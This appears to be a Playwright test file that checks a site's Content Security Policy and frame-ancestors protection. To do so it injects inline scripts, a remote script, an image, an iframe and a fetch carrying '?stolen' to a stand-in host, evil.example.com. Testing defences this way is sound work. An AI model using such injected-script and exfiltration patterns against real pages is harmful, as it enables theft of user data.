import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './journey.ts';

/** A page outside the fixture: what the policy stops is what is wanted here. */
test('what slips into a page does not run, is not fetched and leads nowhere', async ({ browser, address }) => {
  const page = await browser.newPage();
  const messages: string[] = [];
  page.on('console', (message) => messages.push(message.text()));
  await page.goto(`${address.site}/terms`);
  await page.getByRole('heading', { level: 1 }).waitFor();
  const stopped = await page.evaluate(async () => {
    const directives: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
    const add = (tag: string, set: (element: HTMLElement) => void) => {
      const element = document.createElement(tag);
      set(element);
      document.body.append(element);
      return element;
    };
    add('script', (script) => (script.textContent = 'window.ran = true'));
    add('script', (script) => ((script as HTMLScriptElement).src = 'https://evil.example.com/x.js'));
    add('button', (button) => button.setAttribute('onclick', 'window.ran = true')).click();
    add('div', (div) => div.setAttribute('style', 'color: red'));
    add('img', (img) => ((img as HTMLImageElement).src = 'https://evil.example.com/x.png'));
    add('iframe', (frame) => ((frame as HTMLIFrameElement).src = 'https://evil.example.com/'));
    await fetch('https://evil.example.com/?stolen').catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { ran: 'ran' in window, directives: [...new Set(directives)].sort() };
  });
  expect(stopped).toEqual({
    ran: false,
    directives: ['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-attr'],
  });
  // This is how the other journeys know.
  expect(messages.join('\n')).toMatch(/Content Security Policy/i);
  await page.close();
});

test('nobody else’s page can frame the site', async ({ browser, address }) => {
  const server = createServer((_request, response) =>
    response.setHeader('content-type', 'text/html').end(`<iframe src="${address.site}/terms"></iframe>`),
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const page = await browser.newPage();
  const refused = page.waitForEvent('console', { predicate: (message) => /frame-ancestors/.test(message.text()) });
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  await refused;
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  await page.close();
  await new Promise((resolve) => server.close(resolve));
});
